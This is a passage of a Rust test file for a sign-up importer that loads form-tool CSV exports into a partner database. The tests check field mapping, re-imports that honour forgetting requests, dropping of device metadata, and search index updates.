    assert_eq!(yuki["joined_on"], "2026-09-19");
    let dmitri = net.json(&["recruit", "show", "2"]);
    assert_eq!(dmitri["topics"], serde_json::json!(["Cancer care"]));
    assert_eq!(dmitri["consent"], false);
}

#[test]
fn jotform_export_with_a_full_name_and_answers_on_lines() {
    let net = Network::new();
    let got = import(&net, &signups("jotform.csv"), &[]);
    assert_eq!(got.code, 0, "{}", got.stderr);
    assert_eq!(got.report.as_ref().unwrap()["form"], "JotForm");
    let amara = net.json(&["recruit", "show", "1"]);
    assert_eq!((amara["first_name"].as_str(), amara["last_name"].as_str()), (Some("Amara"), Some("Okafor")));
    assert_eq!(amara["topics"], serde_json::json!(["Indigenous cultural safety", "Rural and remote access"]));
    assert_eq!(amara["phone"], "(250) 555-0131");
    let aroha = net.json(&["recruit", "show", "2"]);
    assert_eq!(aroha["last_name"], Json::Null);
    assert_eq!(aroha["phone"], Json::Null);
}

#[test]
fn a_coordinators_own_spreadsheet() {
    let net = Network::new();
    let got = import(&net, &signups("spreadsheet.csv"), &[]);
    assert_eq!(got.code, 0, "{}", got.stderr);
    let report = got.report.unwrap();
    assert_eq!(report["form"], "a spreadsheet");
    assert_eq!(report["date_order"], "dmy");
    let bob = net.json(&["recruit", "show", "1"]);
    assert_eq!(bob["preferred_name"], "Bob");
    assert_eq!(bob["name"], "Bob Tremblay");
    assert_eq!(bob["community"], "remote");
    assert_eq!(bob["joined_on"], "2026-02-03");
    assert_eq!(bob["notes"], "Met at the spring forum");
    let fatima = net.json(&["recruit", "show", "2"]);
    assert_eq!(fatima["topics"], serde_json::json!(["Health equity, diversity and inclusion"]));
    assert_eq!(fatima["joined_on"], "2026-03-21");
}

/// A nightly import of the same export after the coordinator changed things: a corrected address
/// stays corrected, and someone who asked to be forgotten is not brought back.
#[test]
fn a_re_import_respects_edits_and_forgetting() {
    let mut net = Network::new();
    // The coordinator's edits and the forgetting happen in October.
    net.today = "2026-10-20".to_string();
    import(&net, &signups("google-forms.csv"), &[]);
    net.ok(&["recruit", "edit", "2", "--email", "marco@example.org"]);
    net.ok(&["recruit", "forget", "3"]);
    net.today = crate::support::TODAY.to_string();
    let again = import(&net, &signups("google-forms.csv"), &[]);
    // Harpreet's row is counted as forgotten, on its own in the sum (SPEC §5).
    assert_eq!(counts(again.report.as_ref().unwrap()), [5, 0, 0, 3, 1, 0, 0]);
    assert_eq!(again.report.as_ref().unwrap()["forgotten"], 1);
    assert!(
        again.stderr.contains("1 rows are of people who asked to be forgotten; they were not brought back. Delete them from the form's responses."),
        "{}",
        again.stderr
    );
    assert_eq!(net.count("partner"), 4);
    let marco = net.json(&["recruit", "show", "2"]);
    assert_eq!(marco["email"], "marco@example.org");
    let harpreet = net.json(&["recruit", "show", "3"]);
    assert_eq!((harpreet["status"].as_str(), harpreet["email"].clone()), (Some("forgotten"), Json::Null));
    // A new submission from the forgotten person, after the forgetting, is a new sign-up: they
    // chose to come back.
    let file = net.path("later.csv");
    let mut text = std::fs::read_to_string(signups("google-forms.csv")).unwrap();
    text.push_str("2026/11/01 9:00:00 AM GMT-7,harpreet.gill@example.org,Harpreet,Gill,,,,,,,,,,,,,Yes,,\r\n");
    std::fs::write(&file, text).unwrap();
    let later = import(&net, &file, &[]);
    assert_eq!(counts(later.report.as_ref().unwrap()), [6, 1, 0, 3, 1, 0, 0]);
    assert_eq!(later.report.as_ref().unwrap()["forgotten"], 1);
}

/// Every partner's `extra`, read from the database, as one text to search.
fn all_extra(net: &Network) -> String {
    let conn = net.conn();
    let mut stmt = conn.prepare("SELECT extra FROM partner ORDER BY id").unwrap();
    let rows: Vec<String> = stmt.query_map([], |r| r.get(0)).unwrap().map(Result::unwrap).collect();
    rows.join("\n")
}

/// SPEC §5: what a form tool records about the device (SurveyMonkey's IP Address, Typeform's
/// Network ID, a user agent, a location, a referrer) is not personal data the network needs.
#[test]
fn columns_about_the_device_are_dropped_and_listed_unless_keep_metadata() {
    let net = Network::new();
    let got = import(&net, &signups("surveymonkey.csv"), &[]);
    assert_eq!(got.code, 0, "{}", got.stderr);
    let report = got.report.unwrap();
    assert_eq!(report["dropped_columns"], serde_json::json!([{"column": "IP Address"}]));
    let columns = report["columns"].as_array().unwrap();
    assert!(columns.contains(&serde_json::json!({"column": "IP Address", "field": "(dropped: about the device)"})));
    assert!(
        got.stderr.contains(
            "Dropped, as about the device rather than the person: IP Address; --keep-metadata keeps them in the extra answers."
        ),
        "{}",
        got.stderr
    );
    let extra = all_extra(&net);
    assert!(!extra.contains("IP Address") && !extra.contains("203.0.113.7"), "{extra}");
    // The other unmapped columns are still kept.
    assert!(extra.contains("Respondent ID"), "{extra}");

    let maps = ["--map", "Cancer care=topics", "--map", "Primary care=topics", "--map", "Digital health=topics"];
    let net = Network::new();
    let got = import(&net, &signups("typeform.csv"), &maps);
    assert_eq!(got.code, 0, "{}", got.stderr);
    assert_eq!(got.report.unwrap()["dropped_columns"], serde_json::json!([{"column": "Network ID"}]));
    let extra = all_extra(&net);
    assert!(!extra.contains("Network ID") && !extra.contains("3f1c2a9b7e"), "{extra}");

    // --keep-metadata keeps them, and says where.
    let net = Network::new();
    let mut keep = maps.to_vec();
    keep.push("--keep-metadata");
    let got = import(&net, &signups("typeform.csv"), &keep);
    assert_eq!(got.code, 0, "{}", got.stderr);
    let report = got.report.unwrap();
    assert_eq!(report["dropped_columns"], serde_json::json!([]));
    assert!(
        report["columns"]
            .as_array()
            .unwrap()
            .contains(&serde_json::json!({"column": "Network ID", "field": "extra (--keep-metadata)"}))
    );
    let yuki = net.json(&["recruit", "show", "1"]);
    assert!(
        yuki["extra"]
            .as_array()
            .unwrap()
            .contains(&serde_json::json!({"column": "Network ID", "answer": "3f1c2a9b7e"}))
    );
}

#[test]
fn user_agent_location_and_referrer_columns_are_dropped_too() {
    let net = Network::new();
    let file = net.path("qualtrics.csv");
    std::fs::write(
        &file,
        "RecordedDate,IPAddress,LocationLatitude,LocationLongitude,User Agent,Browser,Referrer,Email,First name,Consent,How did you hear about us?\n\
         2026-09-03 10:00:00,192.0.2.44,49.1913,-122.8490,Mozilla/5.0 (X11),Firefox,https://example.org/ad,rui@example.org,Rui,Yes,Poster\n",
    )
    .unwrap();
    let got = import(&net, &file, &["--map", "RecordedDate=joined_on"]);
    assert_eq!(got.code, 0, "{}", got.stderr);
    let dropped: Vec<String> = got.report.unwrap()["dropped_columns"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["column"].as_str().unwrap().to_string())
        .collect();
    assert_eq!(dropped, ["IPAddress", "LocationLatitude", "LocationLongitude", "User Agent", "Browser", "Referrer"]);
    assert_eq!(all_extra(&net), r#"{"How did you hear about us?":"Poster"}"#);
}

fn typeform_choices() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/typeform/choices.csv")
}

/// Issue 13: Typeform writes a multiple-choice question as a column per option, the cell holding
/// the option's text; no alias maps such columns, so they land in the extra answers. The report
/// says so and gives the `--map` flags that read them as topics, and those flags do.
#[test]
fn typeform_choice_columns_in_the_extra_answers_are_named_with_the_map_that_fixes_them() {
    let net = Network::new();
    let got = import(&net, &typeform_choices(), &[]);
    assert_eq!(got.code, 0, "{}", got.stderr);
    let report = got.report.unwrap();
    assert_eq!(report["form"], "Typeform");
    assert_eq!(
        report["choice_columns"],
        serde_json::json!([
            {"column": "Mental health"},
            {"column": "Cancer care"},
            {"column": "Primary care"},
            {"column": "Digital health"}
        ])
    );
    let sentence = "'Mental health', 'Cancer care', 'Primary care' and 'Digital health' look like the options of one \
                    choice question, a column per option holding the option's text when chosen (as Typeform writes \
                    them): they were kept apart in the extra answers. If they are topics, import again with \
                    --map 'Mental health=topics' --map 'Cancer care=topics' --map 'Primary care=topics' \
                    --map 'Digital health=topics'.";
    assert!(got.stderr.contains(sentence), "{}", got.stderr);
    // The free-text question and Typeform's response token are answers, not options.
    assert!(!got.stderr.contains("'How did you hear about us?'"), "{}", got.stderr);
    assert_eq!(net.json(&["recruit", "show", "1"])["topics"], serde_json::json!([]));

    // The suggested flags, given, read the options as topics; nothing is left to suggest.
    let maps = [
        "--map",
        "Mental health=topics",
        "--map",
        "Cancer care=topics",
        "--map",
        "Primary care=topics",
        "--map",
        "Digital health=topics",
    ];
    let again = import(&net, &typeform_choices(), &maps);
    assert_eq!(again.code, 0, "{}", again.stderr);
    assert_eq!(again.report.unwrap()["choice_columns"], serde_json::json!([]));
    assert!(!again.stderr.contains("look like the options"), "{}", again.stderr);
    assert_eq!(net.json(&["recruit", "show", "1"])["topics"], serde_json::json!(["Mental health", "Primary care"]));
    assert_eq!(net.json(&["recruit", "show", "2"])["topics"], serde_json::json!(["Cancer care", "Digital health"]));
    assert_eq!(net.json(&["recruit", "show", "3"])["topics"], serde_json::json!([]));
}

/// Issue 13: the one sentence of the result comes last, after the notes and warnings, in the
/// words of the counts table (`Duplicates`).
#[test]
fn the_import_sentence_comes_last_in_the_words_of_the_counts() {
    let net = Network::new();
    let file = net.path("signups.csv");
    std::fs::write(
        &file,
        "Email,First name,Consent,How did you hear about us?\n\
         ana@example.org,Ana,yes,Poster\n\
         ana@example.org,Ana,yes,Poster\n\
         not-an-address,Bo,yes,Radio\n",
    )
    .unwrap();
    let run = net.run(&["recruit", "import", file.to_str().unwrap()]);
    assert_eq!(run.code, 3, "{}", run.stderr);
    let last = run.stderr.lines().last().unwrap();
    assert_eq!(
        last,
        format!("Imported: {}: 3 read = 1 new + 0 updated + 0 unchanged + 1 duplicate + 1 rejected.", file.display())
    );
    assert!(run.stderr.contains("1 row was rejected"), "{}", run.stderr);
    assert!(run.stdout.contains("Duplicates"), "{}", run.stdout);
    assert!(!run.stderr.contains("repeated in the file"), "{}", run.stderr);

    // Both streams on one screen (or one cron mail): the tables, then the sentence, last.
    let screen = net.path("screen.txt");
    let file_out = std::fs::File::create(&screen).unwrap();
    let file_err = file_out.try_clone().unwrap();
    let status = net
        .terminal_command(&["recruit", "import", file.to_str().unwrap(), "--dry-run"])
        .stdout(file_out)
        .stderr(file_err)
        .status()
        .unwrap();
    assert_eq!(status.code(), Some(3));
    let screen = std::fs::read_to_string(&screen).unwrap();
    let last = screen.lines().last().unwrap();
    assert!(last.starts_with("Dry run, nothing was written: "), "{screen}");
    assert!(screen.find("Duplicates").unwrap() < screen.find("1 row was rejected").unwrap(), "{screen}");
}

/// Issue 13: the column map is shown when a column went to the extra answers or with
/// `--verbose`, and is left out of the table when every column found its field; scripts always
/// get it.
#[test]
fn the_column_map_shows_only_when_a_column_went_unmapped_or_with_verbose() {
    let net = Network::new();
    let jotform = signups("jotform.csv");
    let quiet = net.run(&["recruit", "import", jotform.to_str().unwrap(), "--dry-run"]);
    assert_eq!(quiet.code, 0, "{}", quiet.stderr);
    assert!(!quiet.stdout.contains("Submission Date"), "{}", quiet.stdout);
    let verbose = net.run(&["recruit", "import", jotform.to_str().unwrap(), "--dry-run", "--verbose"]);
    assert_eq!(verbose.code, 0, "{}", verbose.stderr);
    assert!(verbose.stdout.contains("Submission Date") && verbose.stdout.contains("joined_on"), "{}", verbose.stdout);
    let json = import(&net, &jotform, &["--dry-run"]);
    assert_eq!(json.report.unwrap()["columns"].as_array().unwrap().len(), 8);

    let typeform = net.run(&["recruit", "import", typeform_choices().to_str().unwrap(), "--dry-run"]);
    assert_eq!(typeform.code, 0, "{}", typeform.stderr);
    assert!(typeform.stdout.contains("How did you hear about us?"), "{}", typeform.stdout);
}

#[test]
fn the_search_index_follows_the_import_and_its_merges() {
    let net = Network::new();
    let file = signups("google-forms.csv");
    let found = |text: &str| net.found(text);
    import(&net, &file, &[]);
    // Ana's second submission (line 5) merged into the partner her first made in the same import:
    // the index holds what she is now, and db check finds it equal to the partner table.
    assert_eq!(found("digital health"), [1]);
    assert_eq!(found("604-555"), Vec::<i64>::new(), "the phone is not searched");
    net.ok(&["db", "check"]);
    let later = net.path("google-forms.csv");
    let mut text = std::fs::read_to_string(&file).unwrap();
    text.push_str("2026/10/20 9:00:00 AM GMT-7,ana.silva@example.org,Ana,Silva,,,,Vancouver Island,,,,,,,,,,,\r\n");
    std::fs::write(&later, text).unwrap();
    let islanders = found("vancouver island");
    assert!(!islanders.contains(&1), "{islanders:?}");
    import(&net, &later, &[]);
    let mut now = found("vancouver island");
    now.retain(|id| !islanders.contains(id));
    assert_eq!(now, [1]);
    net.ok(&["db", "check"]);
    // A partner added by hand and edited is found by what they are now, not what they were.
    net.ok(&["recruit", "add", "--first", "Quill", "--last", "Ferns", "--email", "q@example.org"]);
    let q = found("quill")[0];
    net.ok(&["recruit", "edit", &q.to_string(), "--last", "Brackenby"]);
    assert_eq!(found("ferns"), Vec::<i64>::new());
    assert_eq!(found("brackenby"), [q]);
    net.ok(&["db", "check"]);
}
